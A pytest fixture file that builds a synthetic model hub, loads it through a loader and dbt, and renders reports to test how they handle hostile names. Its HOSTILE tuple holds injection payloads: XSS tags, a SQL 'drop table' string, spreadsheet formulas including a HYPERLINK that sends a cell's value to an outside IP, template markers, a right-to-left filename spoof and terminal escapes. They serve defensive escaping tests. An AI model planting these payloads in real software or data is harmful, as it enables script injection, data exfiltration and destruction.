"""A Hub whose owners chose the worst names, loaded and built once, and its report."""

import contextlib
import io
import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest

from loaders import cli as loaders_cli
from reports import cli
from reports.exposure import read_exposure
from reports.report_data import ReportData, read_report_data
from reports.warehouse import open_warehouse
from tests.loaders.conftest import dataset, model, write_records
from tests.reports.browser import Browser, running_browser
from tests.reports.explored import add_downloads, write_explorer_of
from tests.warehouse import builds
from tests.warehouse.conftest import build_once, load_once

SNAPSHOT_DATE = date(2025, 3, 15)

# What a name can do: to a page, a query, a template, a spreadsheet, an XML document, the direction
# of writing, a terminal.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; drop table models; --",
    '=HYPERLINK("http://198.51.100.1/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "]]>&amp;<!-- ",
    "{{ 7 * 7 }}{% raw %}",
    "\u202egpj.exe\u202c\u200f",
    "🤗𝒳模型",
    "\x1b[31mred\x07",
    "two\nlines\tand a tab",
    "javascript:alert(1)",
)


def _models() -> Iterator[dict[str, Any]]:
    number = 0
    months = [(year, month) for year in (2022, 2023, 2024, 2025) for month in range(1, 13)]
    for year, month in months:
        if not (2022, 4) <= (year, month) <= (2025, 3):
            continue
        # From 2024 on every month has enough models for a figure, but for June.
        is_large = year >= 2024 and (year, month) != (2024, 6)
        for _ in range(40 if is_large else 6):
            number += 1
            yield model(
                number,
                createdAt=f"{year}-{month:02d}-0{number % 9 + 1}T10:00:00.000Z",
                pipeline_tag=("text-generation", "image-classification", None)[number % 3],
                downloads=number % 50,
                likes=number % 7,
                safetensors={"parameters": {"BF16": 10**8 + number * 10**6}},
            )
    # Of which the Hub does not say how they are liked, or used.
    silent = {"createdAt": "2024-05-05T10:00:00.000Z", "pipeline_tag": "text-generation"}
    yield model(number + 1, **silent, downloads=10**5)
    yield model(number + 2, **silent)
    number += 2
    for index, name in enumerate(HOSTILE):
        number += 1
        # Some are built on the first one, the others on the second.
        parent = HOSTILE[index > 5]
        licences = ["license:gpl-3.0"] if index < 2 else []
        yield model(
            number,
            id=f"{name}/{name}",
            author=name,
            createdAt="2025-02-10T10:00:00.000Z",
            pipeline_tag=name,
            tags=[*licences, f"license:{name}", f"base_model:adapter:{parent}/{parent}"],
            downloads=10**6 - index,
            likes=10**5 - index,
        )


def _datasets() -> Iterator[dict[str, Any]]:
    for number in range(1, 301):
        yield dataset(
            number,
            tags=[
                f"language:{('en', 'zh', 'fr')[number % 3]}",
                f"task_categories:{('translation', 'summarization')[number % 2]}",
                "modality:text",
                "format:csv",
                "size_categories:n<1K",
            ],
        )
    for index, name in enumerate(HOSTILE):
        families = ("language", "task_categories", "modality", "format", "license")
        yield dataset(1000 + index, id=name, tags=[f"{family}:{name}" for family in families])


@dataclass(frozen=True)
class Built:
    """A database with the marts of the hostile Hub, and dbt's target folder."""

    database: Path
    target: Path

    def point_to(self, environment: pytest.MonkeyPatch, database: Path | None = None) -> None:
        """Let a report find it, or a copy of it."""
        environment.setenv("HUB_DUCKDB_PATH", str(database or self.database))
        environment.setenv("DBT_TARGET_PATH", str(self.target))
        environment.setenv("DBT_PROFILES_DIR", str(self.target.parent))
        environment.setenv("DBT_LOG_PATH", str(self.target.parent / "logs"))
        environment.setenv("GOOGLE_CLOUD_PROJECT", "a-project")


@dataclass(frozen=True)
class Report:
    """A report's folder, and what the command said on the terminal."""

    folder: Path
    said: str

    @property
    def html(self) -> str:
        return (self.folder / "index.html").read_text(encoding="utf-8")


def build_report(folder: Path, *options: str) -> Report:
    """Run the command in this process."""
    with contextlib.redirect_stdout(io.StringIO()) as said:
        assert cli.main(["build", "--output", str(folder), *options]) == 0
    return Report(folder, said.getvalue())


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The hostile Hub, through the loader and dbt."""
    folder = tmp_path_factory.mktemp("hostile")
    records = write_records(folder / "records", models=_models(), datasets=_datasets())
    facts = {"source": "https://hub.example", "is_complete": True}
    (records / "hub.json").write_text(json.dumps(facts), encoding="utf-8")
    database = folder / "hub.duckdb"
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("HUB_DUCKDB_PATH", str(database))
        environment.setenv("HUB_LANDING", str(folder / "landing"))
        arguments = ["load", "--hub", str(records), "--snapshot-date", str(SNAPSHOT_DATE)]
        assert loaders_cli.main(arguments) == 0
    shutil.copy(builds.ROOT / "profiles.example.yml", folder / "profiles.yml")
    builds.dbt(
        ["build", "--exclude-resource-type", "test", "unit_test"],
        "duckdb",
        folder,
        {"HUB_DUCKDB_PATH": str(database), "GOOGLE_CLOUD_PROJECT": "unused"},
    )
    return Built(database, folder / "target")


@pytest.fixture(scope="session")
def report(built: Built, tmp_path_factory: pytest.TempPathFactory) -> Report:
    """The whole report of the hostile Hub."""
    with pytest.MonkeyPatch.context() as environment:
        built.point_to(environment)
        return build_report(tmp_path_factory.mktemp("report"))


@pytest.fixture(scope="session")
def synthetic_report(
    built: Built, report: Report, tmp_path_factory: pytest.TempPathFactory
) -> Report:
    """The same, had the Hub been made up and had no model for text generation.

    Written over a copy of the real one.
    """
    folder = tmp_path_factory.mktemp("synthetic")
    database = folder / "hub.duckdb"
    shutil.copy(built.database, database)
    with duckdb.connect(str(database)) as connection:
        connection.execute("update reporting.newest_snapshots set is_synthetic = true")
        for table in ("by_week", "by_creation", "by_storage"):
            connection.execute(f"delete from reporting.text_generation_{table}")
    shutil.copytree(report.folder, folder / "report")
    with pytest.MonkeyPatch.context() as environment:
        built.point_to(environment, database)
        return build_report(folder / "report", "--no-docs")


@pytest.fixture(scope="session")
def data(built: Built) -> ReportData:
    """The data of the hostile Hub's report."""
    with pytest.MonkeyPatch.context() as environment:
        built.point_to(environment)
        with open_warehouse("duckdb") as warehouse:
            return read_report_data(warehouse, read_exposure())


@pytest.fixture(scope="session")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """A browser without a window, one for all tests of a process."""
    with running_browser(tmp_path_factory.mktemp("browser") / "profile") as started:
        yield started


@pytest.fixture(scope="session")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of the sample as it was built, which all processes of a run share."""
    return build_once(tmp_path_factory, load_once(tmp_path_factory))


@pytest.fixture(scope="session")
def explorer(sample: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    """Address of the explorer of the sample, with months of downloads."""
    folder = tmp_path_factory.mktemp("explorer")
    shutil.copy(sample / "hub.duckdb", folder / "hub.duckdb")
    add_downloads(folder / "hub.duckdb")
    return write_explorer_of(sample, folder / "hub.duckdb", folder)
